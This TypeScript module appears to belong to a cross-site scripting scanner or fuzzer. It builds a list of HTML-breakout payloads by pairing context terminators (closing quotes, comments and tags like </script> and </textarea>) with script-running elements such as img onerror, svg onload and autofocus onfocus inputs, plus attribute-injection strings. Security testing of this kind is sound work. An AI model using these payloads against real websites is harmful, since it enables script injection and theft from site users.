import { combineAll, type Shape } from './shape'

/**
 * Endings of the contexts that contain a text: attributes, raw text elements, comments, sections, namespaces.
 */
const ends = [
  '">',
  "'>",
  '"/>',
  "'/>",
  '`>',
  '-->',
  '--!>',
  ']]>',
  '*/-->',
  '"\'>',

  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</noscript>',
  '</template>',
  '</xmp>',
  '</iframe>',
  '</select>',
  '</svg>',
  '</math>',
  '</a></p>',
  '</TITLE\n>',
  '</script/x>',
]

/** Elements that run once the text has left its context. */
const carriers: readonly Shape[] = [
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<script>${call}</script>`,
  (call) => `<input autofocus onfocus=${call}>`,
]

/** Additional attributes for the element whose attribute contains the text. */
const attributes: readonly Shape[] = [
  (call) => `" autofocus onfocus=${call} x="`,
  (call) => `' autofocus onfocus=${call} x='`,
  (call) => `" onfocus="${call}" tabindex="0" autofocus "`,
  (call) => `x autofocus onfocus=${call}`,
  (call) => `"onmouseover="${call}"`,
  (call) => `'onmouseover='${call}'`,
  (call) => `"\tonclick=${call}//`,
  (call) => `" style="animation:x" onanimationend="${call}"`,
]

/** Texts that break out of their context. */
export const escapeShapes: readonly Shape[] = [
  ...combineAll(
    ends,
    carriers,
    (end, carrier): Shape =>
      (call, address) =>
        end + carrier(call, address),
  ),
  ...attributes,
]
